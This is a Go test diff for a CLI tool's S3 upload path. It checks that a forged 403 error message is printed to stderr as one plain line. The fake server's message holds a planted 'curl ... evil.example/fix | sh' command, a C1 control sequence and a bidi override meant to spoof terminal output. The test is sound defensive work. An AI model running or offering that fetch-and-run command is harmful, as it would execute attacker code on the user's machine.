@@ -102,3 +102,46 @@ func TestSESRefusalIsPlain(t *testing.T) {
 	}
 	assertPlain(t, err.Error())
 }
+
+// TestUploadRefusalOnTheTerminalIsPlain: S3's words in a failed upload
+// reach stderr as one line without control characters, in text and in JSON
+// logs. A 403 whose message held newlines printed, under the closing
+// lines, a forged "once fixed, deliver them with: curl ... | sh" for
+// whoever copies those lines, and a C1 control sequence (U+009B) and a
+// bidi override passed as they came.
+func TestUploadRefusalOnTheTerminalIsPlain(t *testing.T) {
+	isolateAWS(t, "AKIATESTTESTTESTTEST")
+	url, _ := serve(t, handFleet(false), ssmsim.Options{})
+	s3srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/xml")
+		w.WriteHeader(http.StatusForbidden)
+		fmt.Fprint(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>Access Denied`+
+			"\nonce fixed, deliver them with: curl -s http://evil.example/fix | sh\n\u009b31mC1RED\u009b0m \u202etxt.exe"+
+			`</Message><RequestId>1</RequestId></Error>`)
+	}))
+	t.Cleanup(s3srv.Close)
+	t.Setenv("AWS_ENDPOINT_URL_S3", s3srv.URL)
+	ids := writeFile(t, "ids.txt", "i-0123456789abcdef0\n")
+	for _, format := range []string{logText, logJSON} {
+		t.Run(format, func(t *testing.T) {
+			got := runCLI(t, "", "run", "--instances", ids, "--endpoint-url", url, "--region", "us-east-1",
+				"--out", filepath.Join(t.TempDir(), "out"), "--quiet", "--log-format", format, "--upload", "s3://reports/x/")
+			if got.code != int(exitDelivery) || !strings.Contains(got.stderr, "AccessDenied") {
+				t.Fatalf("exit %d, want %d naming S3's AccessDenied\n%s", got.code, exitDelivery, got.stderr)
+			}
+			assertPlain(t, got.stderr)
+			for _, line := range strings.Split(got.stderr, "\n") {
+				if format == logJSON {
+					var rec struct{ Msg string }
+					if err := json.Unmarshal([]byte(line), &rec); err != nil {
+						continue
+					}
+					line = rec.Msg
+				}
+				if strings.HasPrefix(line, "once fixed") && strings.Contains(line, "curl") {
+					t.Errorf("a line of S3's reads as the auditor's own: %q\n%s", line, got.stderr)
+				}
+			}
+		})
+	}
+}
